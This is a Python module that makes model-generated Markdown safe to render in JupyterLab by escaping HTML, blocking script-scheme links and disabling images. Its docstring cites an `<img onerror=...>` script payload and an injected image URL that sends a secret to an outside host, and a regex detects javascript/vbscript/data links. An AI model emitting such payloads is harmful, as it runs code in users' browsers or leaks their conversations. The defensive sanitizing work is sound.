"""Model text made safe to show as Markdown, split into blocks that can be painted append-only.

Model output is untrusted: JupyterLab renders a live cell's Markdown as trusted HTML, so a raw
``<img onerror=...>`` in an answer would run in the user's browser. :func:`neutralize_html` escapes
every ``<`` outside code (where Markdown already shows it literally) and inside math (as ``\\lt``,
which MathJax renders), defuses ``javascript:``-style link targets, and shows Markdown images as
text — the browser would fetch them unasked, and an injected ``![](https://host/?q=<secret>)`` is a
known way to leak a conversation — while Markdown formatting (lists, tables, code, math) still renders.
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.DOTALL)
_MATH = re.compile(r"(\$\$.+?\$\$|\$[^\s$](?:[^$\n]*?[^\s$])?\$)", re.DOTALL)
_DANGEROUS_LINK = re.compile(r"\]\(\s*<?\s*(?:javascript|vbscript|data)\s*:", re.IGNORECASE)
_CODE_BLOCK = re.compile(r"^ {0,3}(`{3,}|~{3,})[^\n]*\n(.*?)^ {0,3}\1[ \t]*$", re.DOTALL | re.MULTILINE)


def neutralize_html(markdown: str) -> str:
    """Markdown with raw HTML shown as text, formatting kept."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in markdown.splitlines(keepends=True):
        marker = _FENCE.match(line)
        if fence is None and marker:
            out.append(_neutralize_prose("".join(prose)))
            prose = []
            fence = marker.group(1)[0] * len(marker.group(1))
            out.append(_neutralize_info_string(line))
        elif fence is not None:
            out.append(line)  # inside a fenced block Markdown shows text literally
            if (
                marker
                and marker.group(1).startswith(fence)
                and not line.strip()[len(marker.group(1)) :].strip()
            ):
                fence = None
        else:
            prose.append(line)
    out.append(_neutralize_prose("".join(prose)))
    return "".join(out)


def _neutralize_info_string(line: str) -> str:
    return line.replace("<", "&lt;")


def _neutralize_prose(text: str) -> str:
    """Escape ``<`` outside inline code; in math use ``\\lt``; defuse script links."""
    if not text:
        return text
    pieces: list[str] = []
    position = 0
    for match in _INLINE_CODE.finditer(text):
        pieces.append(_outside_code(text[position : match.start()]))
        pieces.append(match.group(0))
        position = match.end()
    pieces.append(_outside_code(text[position:]))
    return "".join(pieces)


def _outside_code(text: str) -> str:
    pieces: list[str] = []
    position = 0
    for match in _MATH.finditer(text):
        pieces.append(_escape(text[position : match.start()]))
        pieces.append(match.group(0).replace("<", r"\lt "))
        position = match.end()
    pieces.append(_escape(text[position:]))
    return "".join(pieces)


def _escape(text: str) -> str:
    text = text.replace("<", "&lt;").replace("![", "!\\[")
    return _DANGEROUS_LINK.sub("](#blocked:", text)


def split_blocks(markdown: str) -> tuple[list[str], str]:
    """Finished top-level blocks (ended by a blank line outside code fences) and the unfinished tail."""
    blocks: list[str] = []
    current: list[str] = []
    fence: str | None = None
    lines = markdown.splitlines(keepends=True)
    for number, line in enumerate(lines):
        marker = _FENCE.match(line)
        if marker and (fence is None or marker.group(1).startswith(fence)):
            fence = None if fence is not None else marker.group(1)
        current.append(line)
        complete_line = line.endswith("\n") or number < len(lines) - 1
        if fence is None and not line.strip() and complete_line and "".join(current).strip():
            blocks.append("".join(current))
            current = []
    return blocks, "".join(current)


def first_code_block(markdown: str) -> str | None:
    """The body of the first fenced code block, if the text has one."""
    match = _CODE_BLOCK.search(markdown)
    return match.group(2).rstrip("\n") if match else None
